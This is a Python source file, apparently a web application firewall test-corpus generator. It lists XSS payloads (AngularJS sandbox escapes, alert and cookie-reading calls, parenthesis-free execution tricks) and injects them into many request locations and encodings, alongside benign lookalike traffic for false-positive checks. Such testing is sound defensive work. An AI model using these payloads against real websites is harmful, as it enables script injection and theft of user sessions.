        "{{$eval.constructor('alert(1)')()}}",
        "{{ constructor.constructor ( \"alert(1)\" ) ( ) }}",
        "{{$new.constructor('alert(1)')()}}",
        "%7B%7Bconstructor.constructor('alert(1)')()%7D%7D",
        "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
        "<div ng-app ng-csp><input autofocus ng-focus=\"$event.path|orderBy:'[].constructor.from([1],alert)'\"></div>",
        JSONU + "{{constructor.constructor('alert(1)')()}}",
    ],
    "javascript-method": [
        "alert(1)",
        "eval('alert(1)')",
        "setTimeout('alert(1)',0)",
        "setInterval(\"alert(1)\",100)",
        "new Function('alert(1)')()",
        "atob('YWxlcnQoMSk=')",
        "btoa(document.cookie)",
        "prompt(document.domain)",
        "confirm(1)",
        "alert (1)",
        "eval\t(atob('YWxlcnQoMSk='))",
        "ALERT(1)",
        "window.alert(String.fromCharCode(88,83,83))",
        "setTimeout/**/('alert(1)')",
    ],
    "js-function-without-parentheses": [
        "alert`1`",
        "prompt`document.domain`",
        "onerror=alert;throw 1",
        "{onerror=alert}throw 1337",
        "throw onerror=alert,1",
        "window.onerror=eval;throw'=alert\\x281\\x29'",
        "setTimeout`alert\\x281\\x29`",
        "[].constructor.constructor`alert\\x281\\x29```",
        "eval.call`${'alert\\x281\\x29'}`",
        "location='javascript:alert%281%29'",
        "location=name",
        "<img src=x onerror=alert`1`>",
        "x=alert,x`1`",
    ],
}

FAMILIES: dict[str, dict[str, list[str]]] = {"php": PHP_SUBS, "xss": XSS_SUBS}

# Our real routes: where a payload goes the first time, rotating.
OURS = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Client-Version",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
OUR_NAMES = ["q", "bio", "title", "comment", "redirect", "callback", "file", "template", "search", "display_name"]
# A WAF regression suite: where it goes the second time, rotating.
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
# Titles that name their own places.
SPECIAL: dict[str, tuple[list[str], list[str]]] = {
    "php-script-file-upload": (["multipart-filename", "header:X-Filename", "header:X-File-Name"],
                               ["rs-multipart-filename", "rs-header:X-Filename", "rs-header:X-File-Name"]),
    "xss-libinjection-pl2": (["path", "header:Referer"], ["rs-path", "rs-header:Referer"]),
    "us-ascii-malformed-encoding": (["query", "form", "param-name", "path"], ["rs-query", "rs-form"]),
    "utf-7-encoding": (OURS, [p for p in RS if p != "rs-raw-body"]),
}
BOUNDARY = "----WebKitFormBoundaryq7Mf3aZ0xY1b2C4d"
XML_ESC = {"&": "&amp;", "<": "&lt;", ">": "&gt;", "\"": "&quot;"}


def jsonu(text: str) -> str:
    """`text` as the inside of a JSON string, its punctuation as \\uXXXX escapes (a JSON parser decodes them)."""
    out = []
    for ch in text:
        if ch in "<>\"'()=:/&{}" or ord(ch) < 0x20:
            out.append(f"\\u{ord(ch):04x}")
        elif ch == "\\":
            out.append("\\\\")
        else:
            out.append(ch)
    return "".join(out)


def one_line(text: str) -> str:
    """A header value: CR and LF folded to spaces."""
    return text.replace("\r", " ").replace("\n", " ")


def xml_escape(text: str) -> str:
    return "".join(XML_ESC.get(ch, ch) for ch in text)


def _headers(content_type: str | None = None, accept: str = "*/*") -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": accept}
    if content_type:
        h["Content-Type"] = content_type
    return h


def _multipart(fields: list[tuple[str, str]], file_field: str | None = None, filename: str = "",
               content: str = "") -> str:
    parts = [f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n"
             for name, value in fields]
    if file_field is not None:
        parts.append(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{file_field}\"; "
                     f"filename=\"{filename}\"\r\nContent-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{BOUNDARY}--\r\n"


def _mp_request(uri: str, body: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers(f"multipart/form-data; boundary={BOUNDARY}", "text/html")}


def _filename(value: str) -> str:
    """A filename as a browser writes it in Content-Disposition: quotes as %22, no line breaks."""
    return one_line(value).replace("\"", "%22")


def _q(value: str, latin1: bool) -> str:
    return urllib.parse.quote(value, safe="", encoding="latin-1" if latin1 else "utf-8")


def our_place(place: str, name: str, payload: str, latin1: bool) -> tuple[dict[str, Any], str]:
    """The request carrying `payload` at `place` of our routes, and the payload as sent."""
    if place == "query":
        return _get(f"/api/users?{name}={_q(payload, latin1)}&page=1"), payload
    if place == "form":
        body = urllib.parse.urlencode([("csrf_token", "t0k3n"), (name, payload)],
                                      encoding="latin-1" if latin1 else "utf-8")
        return {**_form("/admin/users/search", []), "body": body}, payload
    if place == "json":
        return _json("/api/users", {"email": "a@example.org", name: payload}), payload
    if place == "cookie":
        return {**_get("/api/users?page=1"), "headers": {
            **_headers(accept="application/json"), "Cookie": "session=abc123; prefs=" + _q(payload, False)}}, payload
    if place.startswith("header:"):
        header, value = place.split(":", 1)[1], one_line(payload)
        uri = "/api/users/42/avatar" if header in ("X-Filename", "X-File-Name") else "/api/users?page=1"
        method = "PUT" if header in ("X-Filename", "X-File-Name") else "GET"
        body = "\x89PNG fake image bytes" if method == "PUT" else ""
        hdrs = {**_headers("application/octet-stream" if method == "PUT" else None, "application/json"),
                header: value}
        return {"method": method, "uri": uri, "body": body, "headers": hdrs}, value
    if place == "param-name":
        return _get(f"/api/users?{_q(payload, latin1)}=1&page=1"), payload
    if place == "xml":
        body = f"<user><{name}>{xml_escape(payload)}</{name}><email>a@example.org</email></user>"
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": _headers("application/xml", "application/xml")}, payload
    if place == "multipart-field":
        body = _multipart([("csrf_token", "t0k3n"), (name, payload)])
        return _mp_request("/admin/users/search", body), payload
    if place == "multipart-filename":
        fn = _filename(payload)
        body = _multipart([("csrf_token", "t0k3n")], "avatar", fn, "\x89PNG fake image bytes")
        return _mp_request("/api/users/42/avatar", body), fn
    if place == "path":
        return _get("/api/users/" + _q(payload, latin1)), payload
    raise ValueError(place)


def rs_place(place: str, k: int, payload: str, latin1: bool) -> tuple[dict[str, Any], str]:
    """The request a regression suite sends with `payload` at `place`, on a path that is not our route."""
    path, name = RS_PATHS[k % len(RS_PATHS)], RS_NAMES[k % len(RS_NAMES)]
    if place == "rs-query":
        return _get(f"{path}?{name}={_q(payload, latin1)}"), payload
    if place == "rs-form":
        body = urllib.parse.urlencode([(name, payload)], encoding="latin-1" if latin1 else "utf-8")
        return {"method": "POST", "uri": path, "body": body,
                "headers": _headers("application/x-www-form-urlencoded")}, payload
    if place == "rs-json":
        return {"method": "POST", "uri": path, "body": json.dumps({name: payload}, ensure_ascii=False),
                "headers": _headers("application/json")}, payload
    if place == "rs-xml":
        body = f"<?xml version=\"1.0\"?>\n<root><{name}>{xml_escape(payload)}</{name}></root>" \
            if k % 2 else f"<root><{name}>{xml_escape(payload)}</{name}></root>"
        return {"method": "POST", "uri": path, "body": body, "headers": _headers("text/xml")}, payload
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": payload,
                "headers": _headers("application/x-www-form-urlencoded")}, payload
    if place == "rs-cookie":
        return {"method": "GET", "uri": path, "body": "",
                "headers": {**_headers(), "Cookie": f"{name}={_q(payload, False)}"}}, payload
    if place == "rs-path":
        return _get(path.rstrip("/") + "/" + _q(payload, latin1)), payload
    if place == "rs-multipart-filename":
        fn = _filename(payload)
        return _mp_request("/post", _multipart([("submit", "Upload")], "file", fn, "hello")), fn
    if place.startswith("rs-header:"):
        header, value = place.split(":", 1)[1], one_line(payload)
        if header in ("X-Filename", "X-File-Name"):
            return {"method": "POST", "uri": "/post", "body": "hello",
                    "headers": {**_headers("application/octet-stream"), header: value}}, value
        return {"method": "GET", "uri": path, "body": "", "headers": {**_headers(), header: value}}, value
    raise ValueError(place)


def _jsonu_request(uri: str, key: str, wire: str, extra: str) -> dict[str, Any]:
    body = "{" + extra + json.dumps(key) + ": \"" + wire + "\"}"
    return {"method": "POST", "uri": uri, "body": body, "headers": _headers("application/json")}


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    turn = 0
    for category, subs in FAMILIES.items():
        for k, (sub, payloads) in enumerate(subs.items()):
            ours, rs = SPECIAL.get(sub, (OURS, RS))
            base = 5 * k + len(category)
            latin1 = sub == "us-ascii-malformed-encoding"
            for i, raw in enumerate(payloads):
                turn += 1
                if raw.startswith(JSONU):
                    wire = jsonu(raw[len(JSONU):])
                    name = OUR_NAMES[turn % len(OUR_NAMES)]
                    rsname = RS_NAMES[turn % len(RS_NAMES)]
                    pairs = [(_jsonu_request("/api/users", name, wire, "\"email\": \"a@example.org\", "), "json", wire),
                             (_jsonu_request(RS_PATHS[turn % len(RS_PATHS)], rsname, wire, ""), "rs-json", wire)]
                else:
                    place = ours[(base + i) % len(ours)]
                    rplace = rs[(base + i + 1) % len(rs)]
                    req, sent = our_place(place, OUR_NAMES[turn % len(OUR_NAMES)], raw, latin1)
                    rreq, rsent = rs_place(rplace, turn, raw, latin1)
                    pairs = [(req, place, sent), (rreq, rplace, rsent)]
                for req, placement, sent in pairs:
                    n += 1
                    yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                           "placement": placement, "payload": sent}


# ---------------------------------------------------------------- benign

SLACK_TEXTS = [
    "the checkout page loads slowly on Safari, can someone take a look after lunch?",
    "we should move the inline script on the landing page into app.js before the CSP rollout",
    "PHP 8.3 upgrade is scheduled for Thursday; composer.lock is already updated",
    "has anyone used array_map with a closure in the reports module? reads nicer than foreach",
    "the alert for disk usage fired again on db-2, I'll rotate the logs",
    "eval results are in the spreadsheet, model B wins on recall but loses on latency",
    "system update tonight at 22:00 UTC, expect about 5 minutes of downtime",
    "the window in meeting room 3 is stuck open again, facilities is on it",
    "please document the new onboarding steps in Notion before Friday",
    "cookie banner copy needs a legal review before we ship it",
    "location of the offsite: Lisbon, the hotel near the river",
    "top priority this sprint: search filters and the export button",
    "self-review is due Friday, peer reviews the week after",
    "parent company announcement at 3pm, all hands in the big room",
    "the frames in the product video drop at 0:42, can design re-render it?",
    "content calendar for Q3 is in the shared drive",
    "object storage bill went up 12% after the backup change",
    "embed the Loom video in the release notes please",
    "meta: can we keep this channel for incidents only?",
    "base salary bands are published in the handbook now",
    "style guide says sentence case for buttons, not title case",
    "import from CSV fails when the file starts with a BOM",
    "the background job for invoices retries three times then pages us",
    "the src folder layout changed, run npm ci after you pull",
    "the footer links still point to the old domain",
    "JavaScript fatigue is real; we're sticking with plain fetch",
    "charset issue: the CSV export should be UTF-8 with a BOM for Excel",
    "constructor injection is preferred over field injection in the new services",
    "the email template uses {{ first_name }} and {{ order_total }} placeholders",
    "price is $49 per seat or $490 per year",
    "use include_once for the legacy config loader until we migrate to autoload",
    "the input form needs a character counter on the bio field",
    "filter the board by status open and assignee me",
    "data request: we need the last 90 days of signups by country",
    "zip the logs and attach them to the ticket",
    "the expect script for the old modem lives in ops/scripts",
    "the glob src/**/*.ts misses the tsx files, add both patterns",
    "compress the images before upload, the PDF is 40MB",
    "the applet on the old intranet page finally got removed",
    "the object model diagram is pinned in the channel",
    "on load the dashboard fires six requests, can we batch them?",
    "onboarding buddy list is updated, welcome Priya!",
    "the vbscript macros in the finance workbook need porting to Python",
    "base64 is encoding, not encryption, please don't call it encrypted in the docs",
    "the phpinfo page on the old staging box has been deleted, good catch",
    "exec summary for the board deck is due Monday",
    "passthrough billing for the AWS costs starts next quarter",
    "assert statements in tests should carry a message",
    "readfile vs fopen: for big downloads stream it in chunks",
    "the mail queue backed up overnight, SES throttled us",
    "global search ships behind a feature flag first",
    "the name field allows emoji now",
    "the parent ticket has eight subtasks, three are done",
    "we're moving the status page to a new provider",
    "document.title updates when the unread count changes, that's expected",
    "the window.location redirect in the old login page is gone after the refactor",
    "Angular 17 migration: the templates compile, e2e tests next",
    "the alert() calls in the legacy admin were replaced with toasts",
    "template literals make that string much easier to read",
    "the top nav overlaps the banner on small screens",
    "the link preview shows the wrong image for the blog post",
    "temp files under /tmp are cleaned by systemd-tmpfiles daily",
    "memory usage on the worker dropped after the upgrade",
    "the filter drop-down lost its keyboard navigation",
    "please use the data warehouse view, not the raw tables",
    "the rar archive from the vendor won't open on Mac, can they send a zip?",
    "ogg files are fine for the podcast, mp3 for the app",
    "ssh keys rotate on the first of each month",
    "allow list for the webhook IPs is in the runbook",
    "display name and full name are separate fields now",
    "register for the conference before the early bird ends",
    "extract the numbers from the PDF into the sheet please",
    "the upload button greys out for files over 10 MB",
    "shell scripts in the repo should pass shellcheck",
    "the session timeout is 30 minutes of inactivity",
    "the config file moved to config/app.yaml",
    "error log is noisy after the deploy, mostly deprecation notices",
    "serialization of the report objects moved to JSON",
    "the variable names in that function are confusing, let's rename",
    "call the customer back before 5pm their time",
    "function keys on the new keyboards are a pain",
    "the stream of events from the webhook looks healthy",
    "the stdout of the cron job goes to the log file",
    "wrapper component for the date picker is in shared/ui",
    "the high-risk change needs a second reviewer",
    "medium priority bugs wait until after the release",
    "the script for the onboarding video is ready for review",
    "who owns the style sheet for the email templates?",
    "the meta description on the pricing page is too long",
    "the frame rate of the screen share is terrible today",
    "the embed code for the calculator widget is in the docs",
    "the base image for the containers is debian bookworm now",
    "the link in the invite goes to last week's meeting",
    "import order lint rule is back on",
    "the object store migration is 80% done",
    "what's the expression for a case-insensitive match in the search syntax?",
    "keep the background color consistent with the brand palette",
    "the source map upload failed in CI",
    "the href of the help button should open in a new tab",
    "the location services prompt shows up twice on iOS",
    "cookie consent numbers are up since the redesign",
    "the self-hosted runner is out of disk again",
    "the parent theme update broke the child theme's header",
    "the content security policy report shows only our own domains",
    "the eval harness runs nightly at 02:00",
    "setTimeout in the polling loop should become a proper backoff",
    "the confirm dialog on delete needs clearer wording",
    "prompt engineering doc is in the AI channel",
    "the window cleaners come Thursday, please clear the sills",
    "the document scanner in the office is broken",
    "top of the funnel grew 8% week over week",
    "frames per second on the demo laptop are fine now",
    "the applet-era screenshots in the manual need replacing",
    "the constructor of the report builder takes too many arguments",
    "prototype of the new search page is on Figma",
    "the UTF-8 migration of the old database finished",
    "the charset of the legacy export is Windows-1252",
    "the JS bundle dropped to 180 kB after tree shaking",
    "the onerror handler on images falls back to the placeholder avatar, as designed",
    "the autofocus on the search field annoys screen reader users, removing it",
    "the details element is perfect for the FAQ page",
    "the marquee joke in the retro was great",
    "the textarea grows with the content now",
    "the button styles are unified across the admin panel",
    "the table layout breaks with very long names",
    "the select box needs a search for the country list",
    "the video player autoplay is muted by default",
    "the audio transcript is attached to the ticket",
    "the heading levels on the docs page skip from h1 to h3",
    "system design review moved to Wednesday",
    "we deprecated the PHP SDK, the Node SDK is the supported one",
    "the WordPress site for the blog runs PHP 8.1",
    "the base URL for the sandbox API changed",
    "the phar for the deploy tool is checked into tools/",
    "the zip code field should accept letters for UK and Canada",
    "please stop putting passwords in the Slack channel, use the vault",
    "the ini file for the PHP workers sets memory_limit to 512M",
    "the upload limit in php.ini is 20M, nginx allows 25M",
    "the open tag lint rule flags short echo tags in templates",
    "the php-cs-fixer config is shared across repos",
    "the stream wrapper for S3 in the old code is being replaced by the SDK client",
    "the input validation for phone numbers is too strict",
    "the global variables in the old scripts make testing hard",
    "the high contrast theme is live",
    "the file manager plugin was removed from the CMS",
    "the XML export for the accountant is generated nightly",
    "the JSON schema for the webhook payload is in the repo",
    "the function name in the stack trace is minified, upload source maps",
    "the variable font saves 60 kB on the landing page",
]

SEARCHES = [
    "php tutorial", "javascript alert box", "window cleaner london", "document scanner", "top gun maverick",
    "self storage near me", "parent teacher meeting", "picture frames 30x40", "content writer jobs",
    "embed youtube video", "meta quest 3", "link building", "base camp everest", "style guide template",
    "import tax uk", "background check", "script writing course", "onload event", "cookie recipe",
    "location services", "name change form", "object oriented programming", "applet", "vbscript to powershell",
    "charset utf-8", "expression of interest", "eval function python", "system design interview",
    "exec summary template", "passthrough", "assert statement", "base64 decode", "data science",
    "zip code 10001", "glob pattern", "expect", "ogg vorbis", "open rar file", "ssh2", "display errors",
    "register", "extract audio from video", "file upload", "shell script", "compress pdf", "input output",
    "stdin stdout", "filter coffee", "memory foam mattress", "temp agency", "output tray", "phar lap",
    "compress zlib", "stream deck", "wrapper rolls", "serialize", "constructor", "prototype", "angular",
    "template", "global", "frames", "parent", "window", "alert", "confirm", "prompt", "settimeout", "atob",
    "btoa", "vmlframe", "import", "implementation", "meta charset", "link href", "base href", "object tag",
    "embed tag", "applet tag", "style tag", "script tag", "event handler", "attribute", "javascript uri",
    "utf-7", "jsfuck", "hieroglyphy", "us-ascii", "libinjection", "node validator", "noscript",
    "Jo O'Brien", "D'Angelo", "O'Reilly books", "Smith & Sons", "AT&T", "C++ developer", "C# jobs",
    "50% off", "price < 100", "age > 18", "rock & roll", "Q&A", "tom's diner", "\"exact phrase\"",
    "100 $ bill", "$HOME directory", "semi;colon", "email@example.com", "café", "naïve", "Zürich", "東京",
    "São Paulo", "Kraków", "(555) 123-4567", "[draft] report", "{placeholder}", "1+1=2", "ratio 3:2",
    "path/to/file", "C:\\Users", "50/50", "#hashtag", "@mention", "~tilde", "user_id", "first-name",
]

PROSE = [
    "Dear team, please update the object storage retention policy before the audit.",
    "Quote for window and door replacement, ground floor only.",
    "The alert came in at 03:12 and was resolved by 03:40; no customer impact.",
    "Please find the signed document attached; the original follows by post.",
    "The system will be unavailable on Sunday from 01:00 to 03:00.",
    "Our top customers are in logistics, retail and education.",
    "The parent company is Acme Holdings Ltd.",
    "Background: the vendor changed their import format in March.",
    "Content for the spring newsletter is due on the 14th.",
    "Location: 3rd floor, room 301, next to the kitchen.",
    "The base plan includes five seats; extra seats are $8 each.",
    "The link between churn and onboarding time is clear in the data.",
    "Style notes: use the Oxford comma, avoid exclamation marks.",
    "Meta-analysis of the survey results is in the appendix.",
    "The applet was retired in 2015 together with the old portal.",
    "Embedded finance is the theme of next month's panel.",
    "Frames for the team photos were ordered from the usual shop.",
    "Self-service password reset reduced tickets by 30%.",
    "The script for the demo video was approved by marketing.",
    "Expression of interest forms close on Friday.",
    "Eval results: accuracy 91%, recall 87%, precision 93%.",
    "Executive summary: revenue grew 14% year over year.",
    "The cookie policy was updated to list the analytics provider.",
    "The name on the invoice should be the legal entity.",
    "The template for the contract renewal is in the legal folder.",
    "Global rollout follows the pilot in Ireland.",
    "The prototype was tested with twelve users in two rounds.",
    "The constructor of the new office building is Bauer & Partner.",
    "Window seat requested for the flight to Boston.",
    "Document control: version 3.2, approved by the quality lead.",
    "Confirm attendance by replying to this message.",
    "Prompt payment discount: 2% within ten days.",
    "Our onboarding programme runs over the first two weeks.",
    "The input from the customer advisory board shaped the roadmap.",
    "Filter results by region, then by product line.",
    "Data retention is 13 months for analytics events.",
    "Compress the archive before sending it to the auditors.",
    "The stream of orders peaks around lunch time.",
    "The wrapper paper for the gifts is in the storage room.",
    "Memory of the old server was doubled last year.",
    "Temp staff will help during the inventory count.",
    "Output of the survey will be shared at the all hands.",
    "The upload of the quarterly figures is complete.",
    "The shell of the new building is finished; fit-out starts in May.",
    "Mail merge for the conference invitations is ready.",
    "The register of processing activities was reviewed.",
    "Extract from the land registry attached.",
    "The configuration of the meeting rooms changed.",
    "Serial numbers of the laptops are in the asset sheet.",
    "The high-risk suppliers list is reviewed quarterly.",
    "Medium-sized businesses are our main segment.",
    "The function of the committee is advisory only.",
    "The variable part of the salary is paid in March.",
    "Tom's notes from the workshop: <3 the new layout, need bigger fonts.",
    "Totals: 3 < 5 and 7 > 2, so the plan holds.",
    "Q&A session after the talk, 15 minutes.",
    "Smith & Sons Ltd. remain our preferred supplier.",
    "Use the form at /contact for questions.",
    "Rates: 1 EUR = 1.08 USD (as of Monday).",
    "Meeting notes (draft) - please comment by Friday.",
    "The 'Top 10' list is updated weekly.",
    "O'Connor and D'Souza will present the results.",
    "The printer on level 2 is out of toner again.",
    "Please book the room for 10:00-11:30.",
    "The deadline is the 30th; no extensions this time.",
    "Expenses over $500 need a second approval.",
    "The helpdesk is reachable at extension 4040.",
    "A new parking policy applies from 1 July.",
    "The parent portal for the school trip opens tomorrow.",
    "Object lessons from the outage: keep runbooks current.",
]

PUBLIC_URLS = [
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://www.php.net/manual/en/ini.core.php",
    "https://www.php.net/manual/en/language.variables.superglobals.php",
    "https://developer.mozilla.org/en-US/docs/Web/API/Window/alert",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/object",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/base",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/meta",
    "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/globalThis",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://angular.io/guide/template-syntax",
    "https://en.wikipedia.org/wiki/Cross-site_scripting",
    "https://en.wikipedia.org/wiki/UTF-7",
    "https://en.wikipedia.org/wiki/JSFuck",
    "https://owasp.org/www-project-top-ten/",
    "https://www.w3.org/TR/html52/",
    "https://github.com/acme/site/blob/main/public/index.php",
    "https://github.com/acme/site/pull/482/files",
    "https://cdn.example.org/js/app.min.js?v=4.2.0",
    "https://shop.example.com/products/window-frame-oak?size=large",
    "https://news.example.com/2024/05/12/top-10-scripts-for-automation",
    "https://blog.example.net/embed-videos-in-docs",
    "https://docs.example.io/api/v2/objects#create",
    "https://www.example.co.uk/search?q=base+camp&page=2",
    "https://maps.example.com/?location=Lisbon&zoom=12",
    "https://forms.example.com/r/expression-of-interest",
    "https://calendar.example.com/event?id=8841&name=all-hands",
    "https://status.example.com/incidents/alert-20240612",
    "https://example.com/files/system-design.pdf",
    "https://example.com/download/report.zip",
    "https://example.org/wiki/Main_Page#Content",
    "https://jobs.example.com/php-developer-berlin",
    "https://learn.example.com/courses/javascript-basics/lesson-3",
]

PROFILES = [
    ("Jo O'Brien", "PHP developer", "12 Window Lane, Bristol"),
    ("Marco D'Angelo", "JavaScript engineer", "Via Roma 4, Milano"),
    ("Aoife Ní Bhriain", "Content designer", "3 Parent Street, Galway"),
    ("Sam Top", "System administrator", "88 Frame Road, Leeds"),
    ("Eva Alert", "Security analyst", "Alert House, 1 Main St, Dublin"),
    ("Noah Script", "Scriptwriter", "45 Base Avenue, Austin TX"),
    ("Lena Self", "Self-employed consultant", "Link Park 7, Oslo"),
    ("Omar Object", "Object storage engineer", "Embed Street 2, Cairo"),
    ("Mia Meta", "Meta-data librarian", "Style Row 9, Edinburgh"),
    ("Kai Import", "Import/export coordinator", "Harbour Rd 14, Hamburg"),
    ("Zoe Background", "Background actor", "Stage Lane 3, Vancouver"),
    ("Ravi Location", "Location scout", "10 Cookie Court, Mumbai"),
    ("Ana Document", "Document controller", "Rua das Flores 21, Porto"),
    ("Tom Frames", "Framer", "Gallery Walk 5, Cardiff"),
    ("Ida Content", "Content strategist", "Kungsgatan 8, Stockholm"),
    ("Ben Eval", "Evaluation lead", "Data Drive 100, Boston MA"),
    ("Chloe Exec", "Executive assistant", "Suite 400, 200 Market St, San Francisco"),
    ("Ali Assert", "QA engineer", "Test Road 1, Karachi"),
    ("Grace Passthru", "Billing specialist", "Pay Lane 22, Singapore"),
    ("Hugo Global", "Global mobility manager", "Place du Monde 3, Lyon"),
    ("Ines Prototype", "Prototype engineer", "Maker Street 6, Barcelona"),
    ("Jack Constructor", "Construction manager", "Builders Yard 9, Manchester"),
    ("Kira Template", "Template designer", "Design Quarter 11, Tokyo"),
    ("Liam Window", "Window fitter", "Glass Road 2, Belfast"),
    ("Maya Confirm", "Reservations agent", "Hotel Row 17, Dubai"),
    ("Nina Prompt", "Prompt engineer", "AI Campus 4, Toronto"),
    ("Oscar Filter", "Water filter technician", "Spring St 30, Denver CO"),
    ("Paula Data", "Data scientist", "Calle Mayor 12, Madrid"),
    ("Quinn Zip", "Courier", "Postal Way 99, Melbourne"),
    ("Rosa Compress", "Audio engineer", "Studio Lane 5, Nashville TN"),
    ("Sven Stream", "Streamer", "Bachweg 4, Zürich"),
    ("Tara Wrapper", "Gift shop owner", "Market Square 1, York"),
    ("Uma Memory", "Memory researcher", "Neuro Park 2, Bangalore"),
    ("Victor Temp", "Temp worker", "Agency House, 8 High St, Reading"),
    ("Wen Output", "Print operator", "Press Road 13, Shenzhen"),
    ("Xavier Upload", "Media manager", "Cloud Street 6, Lisbon"),
    ("Yara Shell", "Marine biologist", "Shell Bay 3, Perth"),
    ("Zane Mail", "Postmaster", "Post Office, 1 Mail Rd, Wellington"),
    ("Amélie Régistre", "Registrar", "12 rue du Registre, Paris"),
    ("Björn Extract", "Food chemist", "Extraktvägen 5, Malmö"),
    ("Chen Config", "Configuration manager", "Setting Road 8, Taipei"),
    ("Dana Serial", "Serial entrepreneur", "Startup Blvd 10, Tel Aviv"),
    ("Emil Risk", "High-risk insurance broker", "Lloyd's Avenue 1, London"),
    ("Fatima Medium", "Medium writer", "Blog Lane 2, Casablanca"),
    ("Gus Function", "Functional trainer", "Gym Street 7, Sydney"),
    ("Hana Variable", "Variable star observer", "Observatory Rd 1, Hilo HI"),
    ("Isaac Angular", "Angular developer", "Frontend Close 3, Dublin"),
    ("Jade Vue", "Vue developer", "View Point 5, Auckland"),
    ("Karl Applet", "Retired Java developer", "Applet Str. 1, Berlin"),
    ("Lucy Embed", "Embedded systems engineer", "Chip Lane 9, Eindhoven"),
]
SIGNATURES = [
    "PHP & JavaScript since 2009. Coffee, cycling, terrible puns.",
    "I write scripts for short films and the odd podcast.",
    "Window cleaner by day, amateur astronomer by night.",
    "Parent of two, runner, occasional baker of cookies.",
    "Top 3 finisher at the 2022 city half marathon.",
    "Building frames and furniture from reclaimed wood.",
    "Content is king, but distribution is the whole kingdom.",
    "Self-taught developer; I love documentation and clean APIs.",
    "Base jumper turned accountant. Yes, really.",
    "Meta-question enthusiast: why do we ask why?",
    "Ask me about import duties and customs forms.",
    "Background in physics, foreground in product.",
    "Location independent since 2019, currently in Lisbon.",
    "Document everything, then document the documentation.",
    "Eval-driven development for ML models.",
    "Alert, curious, and usually on the second coffee.",
    "Object-oriented thinker in a functional world.",
    "Embedding kindness in every code review.",
    "Style over fashion. Substance over style.",
    "I confirm things for a living: hotels, flights, tables.",
]
COMMANDS = [
    ("/remind", "me to review the script tag PR at 3pm"),
    ("/poll", "\"Best eval metric?\" \"F1\" \"AUC\" \"accuracy\""),
    ("/giphy", "alert"),
    ("/search", "php upgrade notes"),
    ("/todo", "add window.location fallback to the docs"),
    ("/remind", "#frontend to update the Angular templates tomorrow at 10am"),
    ("/ticket", "cookie banner overlaps the footer on mobile"),
    ("/deploy", "web-app to staging"),
    ("/status", "system"),
    ("/weather", "Lisbon"),
    ("/todo", "document the import process for the finance team"),
    ("/poll", "\"Team lunch location?\" \"Thai\" \"Pizza\" \"Tacos\""),
    ("/ticket", "the embed code for the widget shows a blank frame"),
    ("/remind", "me to confirm the venue on Friday"),
    ("/search", "base64 helper"),
    ("/ticket", "meta tags missing on the pricing page"),
    ("/todo", "replace the applet screenshots in the manual"),
    ("/remind", "@ana about the parent ticket tomorrow"),
    ("/search", "onboarding checklist"),
    ("/ticket", "object storage costs spiked in May"),
    ("/deploy", "docs-site to production"),
    ("/todo", "fix the background image on the login page"),
    ("/search", "style guide buttons"),
    ("/giphy", "top gun"),
    ("/ticket", "link preview shows the wrong image"),
    ("/remind", "me to renew the SSL certificate on the 12th"),
    ("/search", "javascript date formatting"),
    ("/todo", "review the eval harness config"),
    ("/ticket", "the upload button is disabled for large files"),
    ("/status", "payments"),
    ("/search", "PHP serialize vs json_encode"),
    ("/todo", "clean up temp files on the build server"),
    ("/ticket", "the template preview is missing the logo"),
    ("/remind", "me to prepare the exec summary on Monday"),
    ("/search", "global settings page"),
    ("/ticket", "the filter resets after saving"),
    ("/todo", "compress the product images"),
    ("/search", "location permissions iOS"),
    ("/ticket", "prompt text cut off on small screens"),
    ("/todo", "update the constructor docs for the SDK"),
]


def slack_command(command: str, text: str, n: int) -> dict[str, Any]:
    """A slash command as Slack posts it (the replayer signs it)."""
    fields = [("token", "verification-token"), ("team_id", "T061EG9R6"), ("team_domain", "acme"),
              ("channel_id", "C0123456789"), ("channel_name", "general"), ("user_id", "U012345678"),
              ("user_name", "ann"), ("command", command), ("text", text), ("api_app_id", "A0PNCHHK2"),
              ("response_url", "https://hooks.slack.com/commands/T061EG9R6/1234/abcd"),
              ("trigger_id", f"1234.5678.{n:04d}")]
    return {"method": "POST", "uri": "/slack/commands", "body": urllib.parse.urlencode(fields),
            "headers": {"User-Agent": "Slackbot 1.0 (+https://api.slack.com/robots)",
                        "Content-Type": "application/x-www-form-urlencoded",
                        "X-Slack-Request-Timestamp": "1719000000", "X-Slack-Signature": "v0=" + "0" * 64}}


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", s), ("page", "1")])) for s in SEARCHES),
                            f"{NAME}-search", n, "query")
    profiles = (_json("/api/users", {"name": name, "title": title, "address": address,
                                     "bio": SIGNATURES[i % len(SIGNATURES)]})
                for i, (name, title, address) in enumerate(PROFILES))
